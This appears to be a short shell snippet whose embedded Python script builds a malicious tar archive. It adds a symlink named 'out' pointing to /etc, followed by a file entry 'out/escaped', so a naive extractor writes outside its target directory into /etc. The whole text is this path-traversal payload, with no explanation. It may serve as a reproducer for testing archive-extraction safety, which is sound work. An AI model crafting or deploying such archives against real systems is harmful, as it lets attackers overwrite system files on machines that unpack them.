python3 - <<'P'
import io, tarfile
with tarfile.open("a.tar", "w") as a:
    m = tarfile.TarInfo("out"); m.type = tarfile.SYMTYPE; m.linkname = "/etc"
    a.addfile(m)
    m = tarfile.TarInfo("out/escaped"); m.size = 2
    a.addfile(m, io.BytesIO(b"x\n"))
P
